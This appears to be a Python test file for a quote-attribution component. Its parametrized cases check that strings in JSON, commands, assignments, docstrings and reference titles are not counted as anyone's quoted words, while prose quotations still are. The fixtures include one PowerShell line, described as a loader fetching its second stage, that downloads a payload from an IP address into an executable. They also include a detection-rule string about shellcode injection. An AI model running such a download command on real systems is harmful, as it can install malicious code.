"""Speakers, round 55 (issue 16): quoted strings that are nobody's words by their place on the line, found by a
gold-free audit of 309 real test pages of six releases (55 code and markup strings on six pages, 36 reference titles
on two encyclopedia pages, 27 of them published with an author's fragment as the speaker).

- A straight-quoted string in code or markup is no quotation: after a JSON key (``"title": "..."``), an ``=``
  (``$url = "..."``, ``server="..."``), a command-line option (``-Uri "..."``), an HTTP method (``POST "..."``)
  or a docstring's first two marks.
- The title of a cited work is no quotation: after an author-date block (``Roe, A. (2019). "..."``) or first on a
  reference-list line whose entry before it ends a sentence (``- ^ Roe, Ada. "..."``, ``- ^ "..."``).
- Not prose: a typographic mark after the same shapes, a reference that quotes someone's words after a bare date,
  a quotation after an ``=`` elsewhere in its sentence, or after a colon introducing it, stay quotations.

Every sentence here is invented; the rule tests fail on the base code (5dc05bf), the guards pass on it."""

from __future__ import annotations

import pytest

from tests.stages.builders import Names, QuoteRow, people, quote_rows

RULES = [
    pytest.param(
        [
            "The scanner wrote each finding as a record:",
            '"title": "Server-side request forgery through an unchecked gateway address",',
            '"explanation": "A value the user controls flows into the request without a check of its scheme",',
        ],
        people(),
        [],
        id="json-values-after-their-keys",
    ),
    pytest.param(
        [
            "The loader then fetches its second stage:",
            'Invoke-WebRequest -Uri "http://203.0.113.9/stage-two/payload" -OutFile "update.exe"',
        ],
        people(),
        [],
        id="a-command-option-s-argument",
    ),
    pytest.param(
        [
            "The rule matches the loader's log line:",
            '$first = "injecting the shellcode into a hollow section of the host process" fullword',
        ],
        people(),
        [],
        id="an-assigned-string",
    ),
    pytest.param(
        ["To reproduce it, send the request below.", 'curl -X POST "http://localhost:8080/tools/run" -d @body.json'],
        people(),
        [],
        id="a-url-after-an-http-method",
    ),
    pytest.param(
        ["class SmokeTests(TestCase):", '"""Run the browser tests and fail on the first broken page."""'],
        people(),
        [],
        id="a-docstring-in-triple-marks",
    ),
    pytest.param(
        [
            "References",
            '- ^ Roe, Ada; Hale, Tom (2019). "Counting the stars of a small galaxy with a cheap telescope".',
            '- ^ a b Hale, T. (Nov 2008). "A second look at how the stars are counted in the far field".',
        ],
        people("Ada Roe", "Tom Hale"),
        [],
        id="titles-after-author-date-blocks",
    ),
    pytest.param(
        [
            "References",
            '- ^ "Observatory announces a new survey of the southern sky for the coming decade". Star News.',
            '- ^ Hale, Tom; Roe, Ada. "How we will choose which stars to count first in the new survey".',
        ],
        people("Ada Roe", "Tom Hale"),
        [],
        id="titles-first-on-reference-lines",
    ),
]

GUARDS = [
    pytest.param(
        [
            "References",
            '- ^ Ada Roe (5 May) "I no longer trust the numbers the first survey gave us, and neither should you." '
            "Her blog.",
        ],
        people("Ada Roe"),
        [("I no longer trust the numbers the first survey gave us, and neither should you.", "Ada Roe", "cue")],
        id="a-reference-quoting-words-after-a-bare-date",
    ),
    pytest.param(
        ["The rule is simple: x = 3. “It worked the first time we tried it on the test box,” Ada Roe said."],
        people("Ada Roe"),
        [("It worked the first time we tried it on the test box", "Ada Roe", "cue")],
        id="an-equals-sign-earlier-in-the-sentence",
    ),
    pytest.param(
        ["Her verdict on the word “fair”: “It means nothing on this estate any more,” Ada Roe said."],
        people("Ada Roe"),
        [("It means nothing on this estate any more", "Ada Roe", "cue")],
        id="a-typographic-mark-after-a-quoted-word-and-a-colon",
    ),
    pytest.param(
        ['Tom Hale put it plainly: "We will not sign a contract that nobody on the crew has read."'],
        people("Tom Hale"),
        [("We will not sign a contract that nobody on the crew has read.", "Tom Hale", "colon")],
        id="a-straight-quote-after-a-colon-in-prose",
    ),
]


@pytest.mark.parametrize(("paragraphs", "names", "expected"), [*RULES, *GUARDS])
def test_speakers_round55(paragraphs: list[str], names: Names, expected: list[QuoteRow]) -> None:
    assert quote_rows(paragraphs, names) == expected
